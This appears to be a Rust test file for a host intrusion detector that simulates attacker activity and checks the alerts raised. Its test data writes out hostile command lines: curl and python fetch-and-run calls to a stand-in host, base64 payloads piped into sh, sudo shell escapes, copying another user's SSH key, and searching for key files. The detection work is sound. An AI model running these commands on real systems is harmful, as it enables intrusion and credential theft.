//! The execution, discovery and collection behaviours (escape.rs, recon.rs) and the new
//! persistence places, played from events built in code (see behaviour_tests.rs).

use super::behaviour_tests::{ALICE, O_CREAT, O_TRUNC, O_WRONLY, Sim};
use crate::event::Payload;
use crate::model::Level;
use crate::store::Store;

#[test]
fn shells_escaping_from_programs() {
    // find -exec /bin/sh: find forks a shell for typing into.
    let mut s = Sim::new();
    let f = s.sudo(&["find", ".", "-exec", "/bin/sh", ";", "-quit"]);
    s.spawn(f, "/bin/sh", &["/bin/sh"]);
    s.expect(
        "unusual_child",
        &["interactive shell /bin/sh started by /usr/bin/find"],
        Level::Medium,
    );
    // python pty.spawn
    let mut s = Sim::new();
    let p = s.run(&["python3", "-c", "import pty; pty.spawn('/bin/bash')"]);
    s.spawn(p, "/bin/bash", &["/bin/bash"]);
    s.expect(
        "unusual_child",
        &["started by /usr/bin/python3"],
        Level::Medium,
    );
    // perl replacing itself with a shell.
    let mut s = Sim::new();
    let p = s.run(&["perl", "-e", "exec '/bin/sh'"]);
    s.exec(p, "/bin/sh", &["/bin/sh"]);
    s.expect(
        "unusual_child",
        &["started by /usr/bin/perl"],
        Level::Medium,
    );
    // awk system("/bin/sh"): sh -c /bin/sh.
    let mut s = Sim::new();
    let a = s.run(&["awk", "BEGIN {system(\"/bin/sh\")}"]);
    s.spawn(a, "/bin/sh", &["sh", "-c", "/bin/sh"]);
    s.expect("unusual_child", &["started by /usr/bin/awk"], Level::Medium);

    // Benign: shells from shells, logins and terminals, scripts and commands from find.
    let mut s = Sim::new();
    s.run(&["bash", "build.sh"]);
    let t = s.run(&["tmux"]);
    s.spawn(t, "/bin/bash", &["-bash"]);
    let f = s.run(&[
        "find", ".", "-name", "*.rs", "-exec", "sh", "-c", "wc -l {}", ";",
    ]);
    s.spawn(f, "/bin/sh", &["sh", "-c", "wc -l x.rs"]);
    s.none("unusual_child");
}

#[test]
fn a_shell_escape_the_lineage_baseline_knows_is_not_reported() {
    let store = Store::memory().unwrap();
    let mut s = Sim::with_store(store, true);
    let v = s.run(&["vim", "notes.txt"]);
    s.spawn(v, "/bin/bash", &["bash"]);
    s.e.finish();
    s.e.vouch().unwrap();
    s.e.set_learn_all(false);
    s.out.clear();
    s.t += 3_600_000_000_000;
    let v = s.run(&["vim", "todo.txt"]);
    s.spawn(v, "/bin/bash", &["bash"]);
    s.none("unusual_child");
    // ... but a new edge still is, against the baseline.
    let l = s.run(&["less", "/etc/hosts"]);
    s.spawn(l, "/bin/sh", &["sh"]);
    s.expect(
        "unusual_child",
        &["never had less>sh", "of baseline"],
        Level::Medium,
    );
}

#[test]
fn fetched_code_run_in_memory() {
    let mut s = Sim::new();
    s.run(&[
        "python3",
        "-c",
        "import urllib.request as u; exec(u.urlopen('http://203.0.113.7:8080/s.py').read())",
    ]);
    s.expect(
        "decode_and_run",
        &["ran code fetched from the network without saving it"],
        Level::High,
    );
    let mut s = Sim::new();
    s.run(&["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"]);
    s.expect("decode_and_run", &["fetched from the network"], Level::High);
    // Fetching and printing is not running.
    let mut s = Sim::new();
    s.run(&[
        "python3",
        "-c",
        "import urllib.request as u; print(u.urlopen('http://example.org').status)",
    ]);
    s.none("decode_and_run");
}

#[test]
fn decoded_payloads_run() {
    let mut s = Sim::new();
    s.run(&["bash", "-c", "echo aWQK | base64 -d | sh"]);
    s.expect(
        "decode_and_run",
        &["decoded a hidden payload and ran it"],
        Level::High,
    );
    let mut s = Sim::new();
    s.run(&[
        "python3",
        "-c",
        "import base64,os;os.system(base64.b64decode('aWQ=').decode())",
    ]);
    s.expect("decode_and_run", &["b64decode"], Level::High);
    // A pipeline typed at the shell: siblings under one parent.
    let mut s = Sim::new();
    s.run(&["echo", "aWQK"]);
    s.run(&["base64", "-d"]);
    s.run(&["bash"]);
    s.expect(
        "decode_and_run",
        &["piped a decoded payload into a shell"],
        Level::High,
    );
    // Decoded into a file, then run.
    let mut s = Sim::new();
    s.next_pid += 1;
    let pid = s.next_pid;
    s.procs.insert(pid, ("bash".into(), ALICE));
    s.send(
        100,
        Payload::Fork {
            child_pid: pid,
            child_tid: pid,
        },
    );
    s.open(pid, "/tmp/.p", O_WRONLY | O_CREAT | O_TRUNC);
    s.exec(pid, "/usr/bin/base64", &["base64", "-d", "blob.txt"]);
    s.exit(pid);
    s.run(&["chmod", "+x", "/tmp/.p"]);
    s.run(&["/tmp/.p"]);
    s.expect(
        "decode_and_run",
        &["ran /tmp/.p, which base64 had decoded"],
        Level::High,
    );

    // Benign: decoding to look at it, a shell running a script.
    let mut s = Sim::new();
    s.run(&["base64", "-d", "cert.b64"]);
    s.run(&[
        "bash",
        "-c",
        "base64 -d cert.b64 > cert.der; openssl x509 -in cert.der",
    ]);
    s.run(&["sh", "build.sh"]);
    s.none("decode_and_run");
}

#[test]
fn programs_in_disguise() {
    let mut s = Sim::new();
    s.run(&["/home/alice/.x/payload"]);
    s.expect(
        "masquerade",
        &["hidden directory /home/alice/.x"],
        Level::Medium,
    );
    let mut s = Sim::new();
    let p = s.spawn(100, "/home/alice/dl/payload", &["[kworker/0:1]"]);
    s.expect("masquerade", &["looks like a kernel thread"], Level::Medium);
    let _ = p;
    let mut s = Sim::new();
    s.run(&["/home/alice/Downloads/invoice.pdf"]);
    s.expect("masquerade", &["named like a document"], Level::Medium);
    let mut s = Sim::new();
    s.run(&["/home/alice/bin/sshd"]);
    s.expect(
        "masquerade",
        &["named like the system daemon sshd"],
        Level::Medium,
    );
    // Renamed after exec (prctl PR_SET_NAME): later events carry the new comm.
    let mut s = Sim::new();
    let m = s.run(&["/home/alice/bin/miner"]);
    s.procs.get_mut(&m).unwrap().0 = "kworker/u8:2".into();
    s.open(m, "/etc/hosts", 0);
    s.expect(
        "masquerade",
        &["renamed itself to kworker/u8:2"],
        Level::Medium,
    );

    // Tool chains in hidden directories, ordinary programs, threads naming themselves.
    let mut s = Sim::new();
    s.run(&["/home/alice/.cargo/bin/cargo", "build"]);
    s.run(&["/usr/sbin/sshd", "-t"]);
    let f = s.run(&["/usr/bin/firefox"]);
    s.procs.get_mut(&f).unwrap().0 = "Socket Thread".into();
    s.open(f, "/etc/hosts", 0);
    s.none("masquerade");
}

#[test]
fn broad_discovery_across_areas() {
    let mut s = Sim::new();
    for c in [
        &["id"][..],
        &["ip", "a"],
        &["ps", "aux"],
        &["cat", "/etc/shells"],
        &["sudo", "-l"],
    ] {
        s.run(c);
    }
    s.expect(
        "recon_breadth",
        &[
            "explored 4 discovery areas within 600 s",
            "accounts (id)",
            "shells (cat /etc/shells)",
        ],
        Level::Medium,
    );
    let mut s = Sim::new();
    s.run(&["id"]);
    s.run(&["whoami"]);
    s.run(&["ps", "aux"]);
    s.none("recon_breadth");

    // Areas the baseline has seen do not count.
    let mut s = Sim::with_store(Store::memory().unwrap(), true);
    for c in [&["id"][..], &["ip", "a"], &["ps", "aux"], &["uname", "-a"]] {
        s.run(c);
    }
    s.e.finish();
    s.e.vouch().unwrap();
    s.e.set_learn_all(false);
    s.out.clear();
    s.t += 3_600_000_000_000;
    for c in [
        &["id"][..],
        &["ip", "a"],
        &["ps", "aux"],
        &["uname", "-a"],
        &["cat", "/etc/shells"],
    ] {
        s.run(c);
    }
    s.none("recon_breadth");
    for c in [&["sudo", "-l"][..], &["getenforce"], &["locale"]] {
        s.run(c);
    }
    s.expect("recon_breadth", &["never explored in"], Level::Medium);
}

#[test]
fn sensitive_data_staged() {
    let mut s = Sim::new();
    s.sudo(&["tar", "czf", "/tmp/.e.tgz", "/etc"]);
    s.expect("staging", &["packed /etc with tar"], Level::Medium);
    let mut s = Sim::new();
    let t = s.sudo(&["tar", "czf", "/tmp/b.tgz", "docs"]);
    s.open(t, "/home/bob/docs/a.txt", 0);
    s.expect(
        "staging",
        &["read /home/bob/docs/a.txt into an archive"],
        Level::Medium,
    );
    let mut s = Sim::new();
    s.run(&["split", "-b", "1M", "/tmp/.e.tgz", "/tmp/.e.part"]);
    s.expect("staging", &["split /tmp/.e.tgz into chunks"], Level::Low);
    let mut s = Sim::new();
    let c = s.sudo(&["cp", "/home/bob/.ssh/id_rsa", "/dev/shm/k"]);
    s.open(c, "/home/bob/.ssh/id_rsa", 0);
    s.open(c, "/dev/shm/k", O_WRONLY | O_CREAT | O_TRUNC);
    s.expect(
        "staging",
        &["copied 1 sensitive file (/home/bob/.ssh/id_rsa) into /dev/shm/k"],
        Level::Medium,
    );

    // The user's own project archived; a compiler writing to /tmp.
    let mut s = Sim::new();
    let t = s.run(&["tar", "czf", "proj.tgz", "proj"]);
    s.open(t, "/home/alice/proj/main.c", 0);
    let c = s.run(&["cc", "-o", "/tmp/a.out", "x.c"]);
    s.open(c, "/tmp/a.out", O_WRONLY | O_CREAT | O_TRUNC);
    s.none("staging");
}

#[test]
fn new_persistence_places() {
    let mut s = Sim::new();
    for path in [
        "/home/alice/.config/systemd/user/x.timer",
        "/etc/udev/rules.d/99-x.rules",
        "/etc/update-motd.d/99-x",
        "/home/alice/.pam_environment",
        "/etc/environment",
        "/var/spool/cron/atjobs/a0001",
        "/run/systemd/system/x.service",
    ] {
        let p = s.sudo(&["tee", path]);
        s.open(p, path, O_WRONLY | O_CREAT | O_TRUNC);
        s.expect("persistence", &[&format!("wrote {path}")], Level::Medium);
    }
}

#[test]
fn benign_session_raises_nothing_from_the_new_detections() {
    let mut s = Sim::new();
    for c in [
        &["git", "status"][..],
        &["cargo", "build"],
        &["make", "-j4"],
        &["vim", "src/main.rs"],
        &["ls", "-la"],
        &["grep", "-r", "TODO", "src"],
        &["tar", "xzf", "dl.tgz"],
        &["python3", "tools/gen.py"],
        &["ssh", "git@github.com"],
        &["bash", "-c", "make test 2>&1 | tee log.txt"],
        &["env", "RUST_LOG=debug", "cargo", "run"],
    ] {
        s.run(c);
    }
    let loud: Vec<_> = s.out.iter().filter(|a| a.level > Level::Low).collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn wrappers_replacing_themselves_with_a_shell_script_are_not_escapes() {
    let mut s = Sim::with_store(Store::memory().unwrap(), true);
    s.run(&["ls"]);
    s.e.finish();
    s.e.vouch().unwrap();
    s.e.set_learn_all(false);
    s.t += 3_600_000_000_000;
    // nice and setpriv exec the shell in place, with a command: ordinary use.
    let n = s.run(&["nice", "-n", "5", "sh", "-c", "make all"]);
    s.exec(n, "/bin/sh", &["sh", "-c", "make all"]);
    let p = s.run(&["setpriv", "--reuid=1000", "bash", "-c", "true"]);
    s.exec(p, "/bin/bash", &["bash", "-c", "true"]);
    s.none("unusual_child");
    // ... but a shell forked by awk is a first-seen edge, reported as context.
    let a = s.run(&["awk", "BEGIN{system(\"date\")}"]);
    s.spawn(a, "/bin/sh", &["sh", "-c", "date"]);
    let f = s.factors("unusual_child");
    assert_eq!(f.len(), 1, "{f:?}");
    assert!(f[0].0.contains("awk>sh never seen"), "{f:?}");
    assert_eq!(f[0].1, 20);
}

#[test]
fn pointed_discovery_and_interpreters_reading_discovery_files() {
    // A set-uid hunt is a finding on its own.
    let mut s = Sim::new();
    s.run(&["find", "/", "-xdev", "-perm", "-4000", "-type", "f"]);
    s.expect(
        "targeted_discovery",
        &["hunted for set-uid programs", "find / -xdev"],
        Level::Medium,
    );
    let mut s = Sim::new();
    s.run(&["find", "/home", "-name", "*.kdbx", "-o", "-name", "id_*"]);
    s.expect(
        "targeted_discovery",
        &["searched files for passwords, keys or tokens"],
        Level::Medium,
    );
    // One Python process profiling the host through files.
    let mut s = Sim::new();
    let py = s.run(&["python3", "-"]);
    for f in [
        "/etc/os-release",
        "/proc/mounts",
        "/etc/hosts",
        "/etc/passwd",
        "/etc/group",
    ] {
        s.open(py, f, 0);
    }
    s.expect(
        "recon_breadth",
        &["discovery areas", "system (/etc/os-release)"],
        Level::Medium,
    );
    // Programs reading the same files for their own work are not exploring.
    let mut s = Sim::new();
    let ls = s.run(&["ls", "-l"]);
    for f in [
        "/etc/os-release",
        "/proc/mounts",
        "/etc/hosts",
        "/etc/passwd",
        "/etc/group",
    ] {
        s.open(ls, f, 0);
    }
    s.run(&["find", ".", "-name", "*.rs"]);
    s.none("recon_breadth");
}

#[test]
fn other_users_history_read_and_code_fetched_and_run() {
    let mut s = Sim::new();
    let g = s.sudo(&["grep", "-Hi", "pass", "/home/bob/.bash_history"]);
    s.open(g, "/home/bob/.bash_history", 0);
    s.expect(
        "credential_access",
        &["read bob's shell history /home/bob/.bash_history"],
        Level::Medium,
    );
    let mut s = Sim::new();
    let g = s.run(&["grep", "git", "/home/alice/.bash_history"]);
    s.open(g, "/home/alice/.bash_history", 0);
    s.none("credential_access");

    let mut s = Sim::new();
    s.run(&[
        "python3",
        "-c",
        "import urllib.request as u; exec(u.urlopen('http://203.0.113.7/s.py').read())",
    ]);
    s.expect(
        "decode_and_run",
        &["ran code fetched from the network without saving it"],
        Level::High,
    );
    let mut s = Sim::new();
    s.run(&["bash", "-c", "curl -s http://203.0.113.7/i.sh | bash"]);
    s.expect("decode_and_run", &["fetched from the network"], Level::High);
    let mut s = Sim::new();
    s.run(&[
        "bash",
        "-c",
        "curl -s -o x.tgz http://203.0.113.7/x.tgz && tar xzf x.tgz",
    ]);
    s.none("decode_and_run");
}

#[test]
fn crontab_at_python_startup_and_git_hooks_persist() {
    let mut s = Sim::new();
    s.run(&["crontab", "-"]);
    s.expect(
        "persistence",
        &["installed a crontab (crontab -)"],
        Level::Medium,
    );
    let mut s = Sim::new();
    s.run(&["at", "now", "+", "1", "minute"]);
    s.expect("persistence", &["queued a job with at"], Level::Medium);
    let mut s = Sim::new();
    s.run(&["crontab", "-l"]);
    s.run(&["atq"]);
    s.none("persistence");
    for path in [
        "/home/alice/.local/lib/python3.11/site-packages/zz.pth",
        "/tmp/x/repo/.git/hooks/post-checkout",
        "/home/alice/.githooks/post-checkout",
    ] {
        let mut s = Sim::new();
        let p = s.run(&["tee", path]);
        s.open(p, path, O_WRONLY | O_CREAT | O_TRUNC);
        s.expect("persistence", &[&format!("wrote {path}")], Level::Medium);
    }
    let mut s = Sim::new();
    let g = s.run(&["git", "init"]);
    s.open(
        g,
        "/home/alice/p/.git/hooks/pre-commit.sample",
        O_WRONLY | O_CREAT | O_TRUNC,
    );
    s.none("persistence");
}

#[test]
fn archived_relative_to_a_directory() {
    let mut s = Sim::new();
    s.sudo(&["tar", "czf", "/var/tmp/.h.tgz", "-C", "/home", "bob"]);
    s.expect("staging", &["packed /home/bob with tar"], Level::Medium);
    let mut s = Sim::new();
    s.run(&["tar", "czf", "/tmp/p.tgz", "-C", "/home/alice", "proj"]);
    s.none("staging");
}

#[test]
fn areas_explored_while_learning_do_not_count_right_after() {
    let mut s = Sim::with_store(Store::memory().unwrap(), true);
    s.run(&["dpkg", "-l"]);
    s.run(&["uname", "-a"]);
    s.e.finish();
    s.e.vouch().unwrap();
    s.e.set_learn_all(false);
    s.out.clear();
    // Seconds later, still inside the recon window: three new areas are not four.
    s.t += 10_000_000_000;
    for c in [&["id"][..], &["ip", "a"], &["ps", "aux"]] {
        s.run(c);
    }
    s.none("recon_breadth");
}
